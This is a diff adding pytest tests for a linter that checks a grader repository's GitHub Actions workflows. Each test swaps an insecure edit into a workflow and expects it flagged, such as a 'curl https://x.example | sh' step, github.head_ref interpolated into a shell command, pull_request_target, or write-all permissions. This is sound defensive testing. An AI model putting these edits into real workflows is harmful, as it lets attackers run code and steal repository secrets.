@@ -1,0 +1,74 @@
+"""The workflows keep our rules, and each rule finds what breaks it."""
+
+from __future__ import annotations
+
+import subprocess
+from pathlib import Path
+
+import pytest
+
+from grader.submission import REPOSITORY
+from grader.tests import workflows
+
+FOLDER = REPOSITORY / ".github/workflows"
+GRADE = (FOLDER / "grade.yml").read_text()
+REPORT = (FOLDER / "report.yml").read_text()
+
+
+@pytest.mark.parametrize("path", sorted(FOLDER.iterdir()), ids=str)
+def test_our_workflows_keep_the_rules(path: Path) -> None:
+    assert list(workflows.faults(path.read_text())) == []
+
+
+@pytest.mark.parametrize(
+    "text, old, new, words",
+    [
+        (GRADE, "@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2", "@v4", "pinned"),
+        (GRADE, " # v4.6.2", "", "pinned"),
+        (GRADE, "contents: read", "contents: write", "only what follows"),
+        (GRADE, "permissions:\n  contents: read", "", "no list of permissions"),
+        (GRADE, "permissions:\n  contents: read", "permissions: write-all", "no list"),
+        (GRADE, "  pull_request:\n", "  pull_request_target:\n", "may write"),
+        (GRADE, "persist-credentials: false", "clean: true", "credentials"),
+        (GRADE, "    timeout-minutes: 60\n", "", "timeout-minutes"),
+        (GRADE, "timeout-minutes: 60", "timeout-minutes: 360", "timeout-minutes"),
+        (GRADE, "timeout-minutes: 60", "timout-minutes: 60", "no key timout-minutes"),
+        (GRADE, "concurrency:", "defaults:", "no concurrency"),
+        (GRADE, "HEAD=../head", "HEAD=${{ github.head_ref }}", "not one call"),
+        (GRADE, "HEAD=../head", "HEAD=$HEAD", "not one call"),
+        (GRADE, "make -C base setup", "curl https://x.example | sh", "not one call"),
+        (GRADE, "make -C base setup", "make -C base a; make", "not one call"),
+        (GRADE, "make -C base setup", "make -C base stup", "no target stup"),
+        (GRADE, "base.sha }}", "base.sha || 'main' }}", "more than look up"),
+        (GRADE, "github.event.pull_request.number", "secrets.TOKEN", "a secret"),
+        (
+            REPORT,
+            "path: base\n",
+            "path: base\n          ref: x\n",
+            "somebody else chose",
+        ),
+        (REPORT, "  comment:\n", "  comment:\n    permissions: write-all\n", "gives"),
+    ],
+)
+def test_what_breaks_a_rule_is_found(text: str, old: str, new: str, words: str) -> None:
+    assert old in text
+    found = list(workflows.faults(text.replace(old, new)))
+    assert any(words in fault for fault in found), found
+
+
+def test_make_lint_reads_the_workflows(tmp_path: Path) -> None:
+    said = subprocess.run(
+        ["make", "--dry-run", "lint"], cwd=REPOSITORY, capture_output=True, text=True
+    ).stdout
+    (line,) = [line for line in said.splitlines() if "grader.tests.workflows" in line]
+    assert ".github/workflows/grade.yml" in line
+    bad = tmp_path / "bad.yml"
+    bad.write_text(GRADE.replace("make -C base setup", "true"))
+    done = subprocess.run(
+        ["/usr/bin/python3", "-m", "grader.tests.workflows", str(bad)],
+        cwd=REPOSITORY,
+        capture_output=True,
+        text=True,
+    )
+    assert done.returncode == 1
+    assert done.stdout.startswith(f"{bad}: grade: a command is not one call")
